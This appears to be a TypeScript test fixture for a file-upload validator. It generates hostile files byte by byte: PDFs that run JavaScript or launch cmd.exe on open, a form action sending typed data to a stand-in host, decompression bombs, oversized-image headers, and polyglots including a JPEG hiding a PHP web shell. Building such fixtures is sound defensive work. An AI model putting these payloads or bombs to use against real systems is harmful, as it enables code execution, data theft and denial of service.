import { deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Files as somebody would send them who means harm, made here byte by byte so that every one is really what its name says. */
type Part = string | Buffer;
const bytesOf = (part: Part): Buffer => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part);

/** A PDF of these objects, numbered from 1, with a right cross-reference table. */
export function pdfOf(objects: readonly Part[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const places: number[] = [];
  let at = parts[0]?.length ?? 0;
  const put = (part: Buffer): void => { parts.push(part); at += part.length; };
  objects.forEach((object, index) => {
    places.push(at);
    put(Buffer.concat([bytesOf(`${index + 1} 0 obj\n`), bytesOf(object), bytesOf('\nendobj\n')]));
  });
  const start = at;
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  put(bytesOf(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}
const stream = (dictionary: string, body: Buffer): Buffer => Buffer.concat([bytesOf(`<<${dictionary}/Length ${body.length}>>\nstream\n`), body, bytesOf('\nendstream')]);

const CONTENT = stream('', bytesOf('BT /F1 24 Tf 72 700 Td (Giay chung sinh) Tj ET'));
/** A page, and in its catalogue whatever is put there. */
export const pdf = (catalogue = '', ...more: readonly Part[]): Buffer => pdfOf([`<</Type/Catalog/Pages 2 0 R${catalogue}>>`, '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>', CONTENT, ...more]);

/** Objects packed into a stream, as PDF 1.5 has it. */
const packed = (object: string, { filters = '/Filter/FlateDecode', pack = deflateSync as (bytes: Buffer) => Buffer } = {}): Buffer => {
  const head = '9 0 ';
  return stream(`/Type/ObjStm/N 1/First ${head.length}${filters}`, pack(Buffer.from(head + object, 'latin1')));
};
const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1024 * 1024);
const hex = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`);
/** zlib data whose checksum is wrong: strict readers refuse it, viewers show it. */
function wrongSum(bytes: Buffer): Buffer {
  const data = Buffer.from(deflateSync(bytes));
  data.writeUInt32BE(0xdead_beef, data.length - 4);
  return data;
}

function crc32(bytes: Buffer): number {
  let crc = 0xffff_ffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb8_8320 : 0);
  }
  return (crc ^ 0xffff_ffff) >>> 0;
}

/** A ZIP archive of one entry; `before` bytes stand in front of it. */
export function zip(name: string, body: Buffer, before = 0): Buffer {
  const data = deflateRawSync(body);
  const [file, local, entry, end] = [Buffer.from(name), Buffer.alloc(30), Buffer.alloc(46), Buffer.alloc(22)];
  local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(8, 8); local.writeUInt32LE(crc32(body), 14); local.writeUInt32LE(data.length, 18); local.writeUInt32LE(body.length, 22); local.writeUInt16LE(file.length, 26);
  entry.writeUInt32LE(0x02014b50, 0); entry.writeUInt16LE(20, 4); entry.writeUInt16LE(20, 6); entry.writeUInt16LE(8, 10); entry.writeUInt32LE(crc32(body), 16); entry.writeUInt32LE(data.length, 20); entry.writeUInt32LE(body.length, 24); entry.writeUInt16LE(file.length, 28); entry.writeUInt32LE(before, 42);
  const start = before + local.length + file.length + data.length;
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10); end.writeUInt32LE(entry.length + file.length, 12); end.writeUInt32LE(start, 16);
  return Buffer.concat([local, file, data, entry, file, end]);
}
const followedByZip = (bytes: Buffer, name: string): Buffer => Buffer.concat([bytes, zip(name, Buffer.from('class Evil {}'), bytes.length)]);
/** An Office document of the new kind: a ZIP that says what it is, with a macro inside. */
const office = (): Buffer => Buffer.concat([zip('[Content_Types].xml', Buffer.from('<Types><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'))]);
/** The old kind (MS-CFB) begins with these bytes. */
const oldOffice = (): Buffer => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]);

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  size.writeUInt32BE(data.length); sum.writeUInt32BE(crc32(body));
  return Buffer.concat([size, body, sum]);
}
/** A PNG that claims to be this large, with this much of a picture in it. */
function png(width: number, height: number, ...more: readonly Buffer[]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0); head.writeUInt32BE(height, 4); head[8] = 8; head[9] = 2;
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), ...more, chunk('IDAT', deflateSync(Buffer.alloc(Math.min(height, 64) * (1 + Math.min(width, 64) * 3)))), chunk('IEND', Buffer.alloc(0))]);
}

export const photo = (format: 'jpeg' | 'png'): Promise<Buffer> => sharp({ create: { width: 320, height: 240, channels: 3, background: '#d8cfc0' } }).toFormat(format).toBuffer();

/** The well-known trick: the length of the first segment reads as the start of a comment, its end and the program stand at the end of the file. */
async function scriptInPicture(): Promise<Buffer> {
  const jpeg = await photo('jpeg');
  const rest = jpeg.subarray(4 + jpeg.readUInt16BE(4));
  const segment = Buffer.alloc(0x2f2a - 2, 0x20);
  Buffer.from('JFIF\0\x01\x02\0\0\x01\0\x01\0\0', 'latin1').copy(segment);
  Buffer.from('*/=1;alert(1);/*').copy(segment, 32);
  return Buffer.concat([Buffer.from('ffd8ffe02f2a', 'hex'), segment, rest]);
}
/** Claims 65,000 by 65,000 points in the header of a real JPEG. */
async function jpegFlood(): Promise<Buffer> {
  const jpeg = Buffer.from(await photo('jpeg'));
  for (let at = 2; at < jpeg.length; at += 2 + jpeg.readUInt16BE(at + 2)) {
    if (jpeg.readUInt16BE(at) !== 0xffc0) continue;
    jpeg.writeUInt16BE(65_000, at + 5);
    jpeg.writeUInt16BE(65_000, at + 7);
    return jpeg;
  }
  throw new Error('A JPEG without a frame.');
}
async function withComment(text: string): Promise<Buffer> {
  const jpeg = await photo('jpeg');
  const body = Buffer.from(text);
  const head = Buffer.from('fffe0000', 'hex');
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}

type Code = 'FILE_TYPE_REFUSED' | 'FILE_TYPE_MISMATCH' | 'FILE_ACTIVE_CONTENT' | 'FILE_HIDES_ANOTHER' | 'FILE_UNFOLDS' | 'FILE_ENCRYPTED' | 'FILE_IMAGE_TOO_LARGE' | 'FILE_UNCHECKABLE' | 'FILE_DAMAGED';
export interface Hostile { readonly what: string; readonly name: string; readonly bytes: () => Buffer | Promise<Buffer>; readonly code: Code }
const hostile = (what: string, name: string, code: Code, bytes: Hostile['bytes']): Hostile => ({ what, name, bytes, code });

export const HOSTILE: readonly Hostile[] = [
  hostile('a program named as a photo', 'ảnh thẻ.jpg', 'FILE_TYPE_REFUSED', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(512)])),
  hostile('a page named as a PDF', 'don.pdf', 'FILE_TYPE_REFUSED', () => Buffer.from('<!doctype html><script>alert(1)</script>')),
  hostile('a drawing that runs scripts', 'so-do.png', 'FILE_TYPE_REFUSED', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
  hostile('a Word document with macros', 'don-de-nghi.pdf', 'FILE_TYPE_REFUSED', office),
  hostile('an old Word document, which may hold macros', 'don-de-nghi.pdf', 'FILE_TYPE_REFUSED', oldOffice),
  hostile('a PDF under the name of a photo', 'anh.jpg', 'FILE_TYPE_MISMATCH', () => pdf()),
  hostile('a photo under a doubled ending that tells of a PDF', 'anh.jpg.pdf', 'FILE_TYPE_MISMATCH', () => photo('jpeg')),

  hostile('a PDF that runs a script when it is opened', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf(`/OpenAction ${SCRIPT}`)),
  hostile('a script under a name spelt in numbers', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/OpenAction <</S/J#61vaScr#69pt/JS(app.alert\\(1\\))>>')),
  hostile('a script among the additional actions of a page', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf(`/AA<</WC ${SCRIPT}>>`)),
  hostile('a script among packed objects', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/OpenAction 9 0 R', packed(SCRIPT))),
  hostile('a script among packed objects with a wrong checksum', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/OpenAction 9 0 R', packed(SCRIPT, { pack: wrongSum }))),
  hostile('a script among packed objects that do not say what they are', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/OpenAction 9 0 R', stream('/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.from(`9 0 ${SCRIPT}`))))),
  hostile('a script packed twice', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/OpenAction 9 0 R', stream('/N 1/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(Buffer.from(`9 0 ${SCRIPT}`)))))),
  hostile('objects packed as nobody packs them', 'don.pdf', 'FILE_UNCHECKABLE', () => pdf('/OpenAction 9 0 R', packed(SCRIPT, { filters: '/Filter[/ASCIIHexDecode/FlateDecode]', pack: (bytes) => hex(deflateSync(bytes)) }))),
  hostile('a script written in what should be a picture', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('', stream('/Subtype/Image', Buffer.from(`endstream endobj 9 0 obj ${SCRIPT} endobj`)))),
  hostile('a PDF that starts a program', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>')),
  hostile('a PDF with a program attached', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>', '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', stream('/Type/EmbeddedFile', Buffer.from('MZ')))),
  hostile('a PDF that sends what is typed elsewhere', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/OpenAction<</S/SubmitForm/F(https://example.invalid/)>>')),
  hostile('a form whose logic is XFA', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/AcroForm<</XFA 5 0 R/Fields[]>>', stream('', Buffer.from('<xdp/>')))),
  hostile('a link that is a script', 'don.pdf', 'FILE_ACTIVE_CONTENT', () => pdf('/OpenAction<</S/URI/URI(javascript:alert\\(1\\))>>')),
  hostile('a PDF behind a password', 'don.pdf', 'FILE_ENCRYPTED', () => pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>', '<</Filter/Standard/V 2/R 3/Length 128/P -44/O(x)/U(y)>>'], '/Encrypt 3 0 R/ID[(a)(b)]')),

  hostile('a stream that unfolds to 200 MB', 'don.pdf', 'FILE_UNFOLDS', () => pdf('', stream('/Filter/FlateDecode', deflateSync(zeros(200))))),
  hostile('streams that unfold to 500 MB together', 'don.pdf', 'FILE_UNFOLDS', () => pdf('', ...Array.from({ length: 5 }, () => stream('/Filter/FlateDecode', deflateSync(zeros(100)))))),
  hostile('a stream folded again and again', 'don.pdf', 'FILE_UNFOLDS', () => pdf('', stream('/Filter[/FlateDecode/FlateDecode/FlateDecode/FlateDecode]', [1, 2, 3].reduce((bytes) => deflateSync(bytes), deflateSync(Buffer.from('bom')))))),
  hostile('a bomb written in letters', 'don.pdf', 'FILE_UNFOLDS', () => pdf('', stream('/Filter[/ASCIIHexDecode/FlateDecode]', hex(deflateSync(zeros(200)))))),
  hostile('objects in objects without end', 'don.pdf', 'FILE_UNFOLDS', () => pdf('', `${'['.repeat(100_000)}${']'.repeat(100_000)}`)),
  hostile('objects in objects without end, packed', 'don.pdf', 'FILE_UNFOLDS', () => pdf('', packed('<</A'.repeat(10) + '[ '.repeat(100_000)))),
  hostile('a picture in a PDF that claims 10,000 million points', 'don.pdf', 'FILE_IMAGE_TOO_LARGE', () => pdf('', stream('/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode', Buffer.alloc(16)))),
  hostile('a PNG that claims 10,000 million points', 'anh.png', 'FILE_IMAGE_TOO_LARGE', () => png(100_000, 100_000)),
  hostile('a PNG that claims a line no PNG may have', 'anh.png', 'FILE_DAMAGED', () => png(2_000_000_000, 1)),
  hostile('a JPEG that claims 4,225 million points', 'anh.jpg', 'FILE_IMAGE_TOO_LARGE', jpegFlood),
  hostile('a PNG whose text unfolds to 50 MB', 'anh.png', 'FILE_UNFOLDS', () => png(8, 8, chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(zeros(50))])))),
  hostile('a PNG whose colour profile unfolds to 50 MB', 'anh.png', 'FILE_UNFOLDS', () => png(8, 8, chunk('iCCP', Buffer.concat([Buffer.from('p\0\0'), deflateSync(zeros(50))])))),
  hostile('a PNG whose translated text unfolds to 50 MB', 'anh.png', 'FILE_UNFOLDS', () => png(8, 8, chunk('iTXt', Buffer.concat([Buffer.from('Comment\0\x01\0vi\0Loi\0'), deflateSync(zeros(50))])))),

  hostile('a photo that is a Java program too (GIFAR)', 'anh.jpg', 'FILE_HIDES_ANOTHER', async () => followedByZip(await photo('jpeg'), 'Evil.class')),
  hostile('a photo that is a ZIP archive too', 'anh.png', 'FILE_HIDES_ANOTHER', async () => followedByZip(await photo('png'), 'evil.js')),
  hostile('a PDF that is a ZIP archive too', 'don.pdf', 'FILE_HIDES_ANOTHER', () => followedByZip(pdf(), 'evil.docm')),
  hostile('a photo with an archive behind it', 'anh.jpg', 'FILE_HIDES_ANOTHER', async () => Buffer.concat([await photo('jpeg'), Buffer.from('Rar!\x1a\x07\x01\0', 'latin1')])),
  hostile('a photo that is a script too', 'anh.jpg', 'FILE_HIDES_ANOTHER', scriptInPicture),
  hostile('a photo that is a page too', 'anh.jpg', 'FILE_HIDES_ANOTHER', () => withComment('<html><script>alert(1)</script>')),
  hostile('a photo that is a program of the server too', 'anh.jpg', 'FILE_HIDES_ANOTHER', () => withComment('<?php system($_GET["c"]); ?>')),
  hostile('a photo that is a PDF too', 'anh.jpg', 'FILE_HIDES_ANOTHER', async () => Buffer.concat([await photo('jpeg'), pdf(`/OpenAction ${SCRIPT}`)])),
  hostile('a PDF that is a page too', 'don.pdf', 'FILE_HIDES_ANOTHER', () => pdf('', stream('', Buffer.from('<html><body onload=alert(1)>')))),
];
